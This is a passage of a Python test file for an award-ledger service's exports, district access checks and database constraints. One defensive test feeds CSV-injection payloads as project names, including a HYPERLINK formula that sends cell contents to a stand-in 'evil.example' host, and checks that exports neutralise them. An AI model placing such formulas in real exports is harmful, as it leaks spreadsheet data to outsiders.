    assert [row[16] for row in body] == ["已拨付", "拟奖励", "不予奖励"]
    # The district award pays the district government (区县政府); the projects pay their owners (企业).
    assert [row[8] for row in body] == ["企业", "企业", "区县政府"]
    # Every amount, the totals included, is formatted as money (rows 3–5 the awards, 6 the totals).
    assert {sheet.cell(row=r, column=c).number_format for r in range(3, 7) for c in (14, 15)} == {"#,##0.00"}

    # A district's export holds its own awards only.
    yubei = client_for(district("500112"))
    rows_ = list(csv.DictReader(io.StringIO((await yubei.get("/awards/export.csv")).content.decode("utf-8-sig"))))
    assert {row["district_code"] for row in rows_} == {"500112"} and len(rows_) == 2
    assert (await yubei.get("/awards/export.xlsx", params={"district_code": "500103"})).status_code == 403


async def test_the_openapi_documents_the_ledger(eligibility_app):
    paths = eligibility_app.openapi()["paths"]
    assert {path for path in paths if path.startswith("/awards")} == {
        "/awards",
        "/awards/{award_id}",
        "/awards/{award_id}/transitions",
        "/awards/summary",
        "/awards/export.csv",
        "/awards/export.xlsx",
    }


async def test_if_the_code_let_a_second_award_through_the_database_would_answer_409(
    city, registry, eligibility_app, monkeypatch
):
    from services.eligibility.awards import repository

    p = await investment(registry)
    standing = await propose(city, m01(p, "1000000.00"))
    counts = await written(eligibility_app)

    async def no_lock(session, key):
        return None

    async def nothing_stands(session, key):
        return None

    # As if the lock were not taken and the read missed the standing award: the partial unique index refuses.
    monkeypatch.setattr(repository, "lock_key", no_lock)
    monkeypatch.setattr(repository, "standing", nothing_stands)
    response = await city.post("/awards", json=m01(p, M01_MAX))
    assert response.status_code == 409 and "at the same time" in response.json()["detail"]
    assert await written(eligibility_app) == counts
    assert (await award(city, standing["id"]))["is_standing"]


async def test_exports_survive_control_characters_a_caller_sent(city):
    # A filter echoed into the workbook's selection sheet may hold characters XML cannot carry.
    response = await city.get("/awards/export.xlsx", params={"subject_id": "\b\x1fx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert ["subject_id", "\ufffd\ufffdx"] in [
        [cell.value for cell in row] for row in workbook["selection"].iter_rows()
    ]


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?leak="&B3&C3,"点击核对")', "+1+1", "-2+3", "@SUM(A1)"]
)
async def test_the_exports_never_carry_a_formula(city, registry, name):
    # A district names its enterprise's project like a formula (OWASP, CSV Injection): the exports show the text,
    # with a leading apostrophe, and a spreadsheet never runs it.
    from tests.eligibility.scenario import enterprise

    owner = await enterprise(registry, "500103", sector="software_it", spun_off=False)
    body = {
        "kind": "investment",
        "owner_uscc": owner,
        "name": name,
        "year": 2025,
        "verified_investment_yuan": INVESTMENT,
    }
    response = await registry.post("/projects", json=body)
    assert response.status_code == 201, response.text
    await propose(city, m01(str(response.json()["id"]), M01_MAX))
    [row] = list(csv.DictReader(io.StringIO((await city.get("/awards/export.csv")).content.decode("utf-8-sig"))))
    assert row["subject_name"] == "'" + name and row["amount_yuan"] == M01_MAX
    sheet = load_workbook(io.BytesIO((await city.get("/awards/export.xlsx")).content))["awards"]
    cell = sheet.cell(row=3, column=8)
    assert (cell.value, cell.data_type) == ("'" + name, "s")
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
